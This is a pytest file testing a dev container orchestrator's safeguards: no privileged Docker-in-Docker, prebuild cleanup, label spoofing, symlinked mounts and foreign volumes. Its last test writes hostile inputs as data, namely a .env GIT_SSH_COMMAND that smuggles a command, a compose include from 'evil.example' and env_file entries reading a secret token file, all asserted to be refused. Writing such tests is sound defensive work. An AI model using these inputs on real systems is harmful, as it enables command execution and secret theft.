"""Docker in a dev container comes from a guard that lives and dies with it; prebuilds are found by what they are made of."""

import json
import os
import subprocess
import sys
import tempfile
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest

from tests import clients
from tests.engine import Engine, image

pytestmark = pytest.mark.docker

IMAGE = "aienv-test/for-devcontainers:1"
DEADLINE_S = 120.0
FEATURE = {
    "id": "docker-in-docker", "version": "1.0.0", "privileged": True, "entrypoint": "/usr/local/share/docker-init.sh",
    "mounts": [{"source": "dind-${devcontainerId}", "target": "/var/lib/docker", "type": "volume"}],
}  # fmt: skip


@dataclass(frozen=True)
class Place:
    engine: Engine
    folder: Path
    home: Path
    before: frozenset[str] = frozenset()  # containers of other tests

    def containers(self) -> list[str]:
        """Of this test, the newest first."""
        with self.engine.client() as client:
            return [one["Id"] for one in client.containers(all=True) if one["Id"] not in self.before]

    def lay(self, config: object) -> None:
        (self.folder / ".devcontainer").mkdir(exist_ok=True)
        (self.folder / ".devcontainer/devcontainer.json").write_text(json.dumps(config))

    def run(self, *words: str) -> subprocess.CompletedProcess[str]:
        environ = {**os.environ, "DOCKER_HOST": self.engine.address, "AIENV_HOME": str(self.home), "DOCKER_BUILDKIT": "0"}
        return subprocess.run(
            [sys.executable, "-m", "orchestrator", *words], env=environ, cwd=self.folder, stdin=subprocess.DEVNULL, capture_output=True,
            text=True, timeout=DEADLINE_S, check=False,
        )  # fmt: skip

    def ok(self, *words: str) -> Any:
        done = self.run(*words)
        assert done.returncode == 0, done.stderr
        return json.loads(done.stdout) if done.stdout.startswith(("{", "[")) else done.stdout


@pytest.fixture
def place(engine: Engine, tmp_path: Path) -> Iterator[Place]:
    image(engine, "debian", IMAGE)
    folder = tmp_path / "w"
    folder.mkdir()
    with tempfile.TemporaryDirectory(prefix="aienv-", dir="/tmp") as home:  # a socket's path is short
        with engine.client() as client:
            before = frozenset(one["Id"] for one in client.containers(all=True))
        yield Place(engine, folder, Path(home), before)


def test_docker_comes_from_a_guard(place: Place) -> None:
    docker = clients.require(lambda: clients.docker_cli("20.10"))
    feature = place.folder / ".devcontainer/docker-in-docker"
    feature.mkdir(parents=True)
    (feature / "devcontainer-feature.json").write_text(json.dumps(FEATURE))
    (feature / "install.sh").write_text("true\n")
    (place.folder / ".devcontainer/Dockerfile").write_text(f"FROM {IMAGE}\n")
    place.lay({"build": {"dockerfile": "Dockerfile"}, "remoteUser": "daemon", "features": {"./docker-in-docker": {}}})
    try:
        made = place.ok("up", "--mount", f"type=bind,source={docker},target=/usr/bin/docker,readonly")
        with place.engine.client() as client:
            found = client.inspect_container(made["containerId"])
            assert not found["HostConfig"]["Privileged"]
            assert {one["Destination"] for one in found["Mounts"]}.isdisjoint({"/var/lib/docker", "/var/run/docker.sock"})
            assert place.run("exec", "docker", "ps", "-q").stdout == ""  # not even the container itself
            inner = place.ok("exec", "docker", "run", "-d", "-v", "/workspaces/w:/x", IMAGE, "sleep", "100").strip()
            assert client.inspect_container(inner)["Mounts"][0]["Destination"] == "/x"
            refused = place.run("exec", "docker", "run", "--privileged", IMAGE, "true")
            assert "create.privileged" in refused.stderr
            place.ok("stop")
            assert place.containers() == [made["containerId"]]
            place.ok("up")
            assert place.run("exec", "docker", "version").returncode == 0
    finally:
        place.ok("down")
    assert list((place.home / "devcontainers/guards").iterdir()) == []


def test_prebuild(place: Place) -> None:
    config = {
        "image": IMAGE, "containerEnv": {"A": "b"}, "onCreateCommand": "touch /made; echo on >>order",
        "updateContentCommand": "echo update >>order", "postCreateCommand": "echo post >>order",
    }  # fmt: skip
    place.lay(config)
    name = place.ok("prebuild")["imageName"][0]
    try:
        assert place.containers() == []
        (place.folder / "order").unlink()
        made = place.ok("up")
        assert (place.folder / "order").read_text().split() == ["update", "post"]
        assert place.run("exec", "test", "-e", "/made").returncode == 0
        assert [(one["name"], one["hits"]) for one in place.ok("prebuild", "ls", "--json")] == [(name, 1)]
        assert place.ok("prebuild", "gc", "--all", "--json") == {"removed": [], "in_use": [name]}
        place.ok("down")
        place.lay({**config, "onCreateCommand": "true"})
        place.ok("up")
        assert made["containerId"] not in place.containers()
        with place.engine.client() as client:
            assert [client.inspect_container(one)["Config"]["Image"] for one in place.containers()] == [IMAGE]
    finally:
        place.ok("down")
        assert place.ok("prebuild", "gc", "--all", "--json") == {"removed": [name], "in_use": []}


def test_a_prebuild_that_fails_leaves_nothing(place: Place) -> None:
    place.lay({"image": IMAGE, "onCreateCommand": "exit 3"})
    done = place.run("prebuild")
    assert done.returncode == 3
    assert json.loads(done.stdout)["description"] == "onCreateCommand from devcontainer.json failed."
    assert place.containers() == []
    assert place.ok("prebuild", "ls", "--json") == []


def test_an_image_does_not_say_whose_a_container_is(place: Place, tmp_path: Path) -> None:
    """Labels of an image are its containers' too: a stranger's must not be found as that of another folder, or end another project."""
    other = tmp_path / "other"
    other.mkdir()
    (other / ".devcontainer.json").write_text(json.dumps({"image": IMAGE}))
    place_labels = {"devcontainer.local_folder": str(other), "devcontainer.config_file": f"{other}/.devcontainer.json"}
    claims, project = "aienv-test/claims:1", "aienv-test/project:1"
    image(place.engine, "debian", claims, [f"LABEL {name}={value}" for name, value in place_labels.items()])
    image(place.engine, "debian", project, ["LABEL com.docker.compose.project=victim"])
    with place.engine.client() as client:
        victim = client.create_container(IMAGE, ["sleep", "1000"], labels={"com.docker.compose.project": "victim"})["Id"]
        beside = client.create_container(claims, ["sleep", "1000"])["Id"]  # as a compose service would bring it
        try:
            client.start(victim)
            client.start(beside)
            assert place.run("exec", "--workspace-folder", str(other), "true").returncode == 6
            place.lay({"image": claims})
            refused = place.run("up")
            assert refused.returncode == 4
            assert "the label devcontainer.local_folder" in refused.stderr
            place.lay({"image": project})
            made = place.ok("up")
            assert "composeProjectName" not in made
            assert place.ok("stop")["containerId"] == made["containerId"]
            assert client.inspect_container(victim)["State"]["Running"]
            assert place.ok("down")["removed"] == [made["containerId"]]
            assert client.inspect_container(victim)["State"]["Running"]
        finally:
            for name in (victim, beside):
                client.remove_container(name, force=True)
            for name in (claims, project):
                client.remove_image(name)


def test_a_mount_that_became_a_link_is_not_followed(place: Place, tmp_path: Path) -> None:
    """What runs in the workspace can replace a folder in it, and an engine follows links when it starts a container again."""
    secret = tmp_path / "secret"
    secret.mkdir()
    (secret / "key").write_text("SECRET")
    (place.folder / "data").mkdir()
    place.lay({"image": IMAGE, "mounts": ["type=bind,source=${localWorkspaceFolder}/data,target=/d"], "runArgs": ["--restart=always"]})
    try:
        made = place.ok("up")
        with place.engine.client() as client:
            assert client.inspect_container(made["containerId"])["HostConfig"]["RestartPolicy"]["Name"] in ("", "no")
        place.ok("stop")
        (place.folder / "data").rmdir()
        (place.folder / "data").symlink_to(secret)
        refused = place.run("up")
        assert (refused.returncode, f"--grant mount:{secret}" in refused.stderr) == (4, True)
        (place.folder / "data").unlink()
        (place.folder / "data").mkdir()
        place.ok("up")
    finally:
        place.ok("down")


def test_a_volume_of_others_is_not_mounted(place: Place) -> None:
    place.lay({"image": IMAGE, "mounts": ["type=volume,source=aienv-test-users,target=/d", "type=volume,source=aienv-test-own,target=/o"]})
    with place.engine.client() as client:
        client.create_volume("aienv-test-users")
        try:
            refused = place.run("up")
            assert (refused.returncode, "--grant volume:aienv-test-users" in refused.stderr) == (4, True)
            assert place.containers() == []
            place.ok("up", "--grant", "volume:aienv-test-users")
            place.ok("down")
            place.ok("up", "--grant", "volume:aienv-test-users")  # our own is known again
        finally:
            place.ok("down", "--volumes")
            left = {one["Name"] for one in client.volumes()["Volumes"] or ()}
            assert left >= {"aienv-test-users"}
            assert "aienv-test-own" not in left
            client.remove_volume("aienv-test-users")


def test_compose_reads_no_file_of_variables_of_a_stranger(place: Place, tmp_path: Path) -> None:
    """Neither to start programs with it, nor to read files that it names."""
    secret = tmp_path / "token.env"
    secret.write_text("TOKEN=very-secret\n")
    (place.folder / ".env").write_text(f'GIT_SSH_COMMAND=touch {tmp_path}/pwned\nCOMPOSE_EXPERIMENTAL_GIT_REMOTE=1\nX="{secret}"\nTAG=1\n')
    compose = place.folder / "docker-compose.yml"
    config = {"dockerComposeFile": "../docker-compose.yml", "service": "app", "workspaceFolder": "/"}
    place.lay(config)
    service = "services: {app: {image: 'aienv-test/for-devcontainers:${TAG}', command: sleep 1000%s}}\n"
    for line, word in (
        ("include: ['git@evil.example:/x#v2']\n" + service % "", "it is no path"),
        (service % ", env_file: '${X}'", f"--grant mount:{secret}"),
        (f"x-s: &s {{app: {{image: x, env_file: {secret}}}}}\nservices: {{<<: *s}}\n", f"--grant mount:{secret}"),
    ):
        compose.write_text(line)
        refused = place.run("up")
        assert (refused.returncode, word in refused.stderr) == (4, True), refused.stderr
    compose.write_text(service % ", restart: always")
    try:
        made = place.ok("up")
        with place.engine.client() as client:
            found = client.inspect_container(made["containerId"])
            assert (found["Config"]["Image"], found["HostConfig"]["RestartPolicy"]["Name"] in ("", "no")) == (IMAGE, True)
    finally:
        place.ok("down")
    assert not (tmp_path / "pwned").exists()
